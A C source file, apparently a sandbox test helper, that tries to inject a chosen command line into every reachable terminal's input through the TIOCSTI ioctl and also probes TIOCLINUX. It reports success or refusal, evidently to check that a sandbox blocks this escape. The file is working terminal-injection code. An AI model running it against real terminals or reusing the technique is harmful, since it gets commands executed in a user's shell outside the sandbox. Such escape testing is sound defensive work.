/* fk-attack-tiocsti LINE: pushes LINE into the input of every terminal it can reach (its
   controlling terminal through /dev/tty, then whatever fds 0-2 are), as code that wants the host
   shell to run LINE after the sandbox ends would. Prints what it found and what each try did;
   exits 0 when some bytes went in. Also tries TIOCLINUX, which reaches the console. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static int
inject (const char *what, int fd, const char *line)
{
  if (!isatty (fd))
    {
      printf ("%s: not a terminal\n", what);
      return 0;
    }
  int n = 0, first_errno = 0;
  for (const char *p = line; *p; p++)
    if (ioctl (fd, TIOCSTI, p) == 0)
      n++;
    else if (first_errno == 0)
      first_errno = errno;
  char *name = ttyname (fd);
  if (n)
    printf ("%s (%s): injected %d bytes\n", what, name ? name : "?", n);
  else
    printf ("%s (%s): TIOCSTI refused: %s\n", what, name ? name : "?", strerror (first_errno));
  char sub = 12; /* TIOCL_GETKMSGREDIRECT: a harmless read of the console's state */
  if (ioctl (fd, TIOCLINUX, &sub) == 0)
    printf ("%s: TIOCLINUX allowed\n", what);
  else
    printf ("%s: TIOCLINUX refused: %s\n", what, strerror (errno));
  return n;
}

int
main (int argc, char **argv)
{
  char line[4096];
  snprintf (line, sizeof line, "%s\n", argc > 1 ? argv[1] : "true");
  printf ("session %d, pid %d, process group %d\n", (int)getsid (0), (int)getpid (),
          (int)getpgrp ());
  int total = 0;
  int tty = open ("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
  if (tty < 0)
    printf ("/dev/tty: %s\n", strerror (errno));
  else
    {
      total += inject ("/dev/tty", tty, line);
      close (tty);
    }
  const char *names[] = { "stdin", "stdout", "stderr" };
  for (int fd = 0; fd < 3; fd++)
    total += inject (names[fd], fd, line);
  fflush (stdout);
  return total > 0 ? 0 : 1;
}
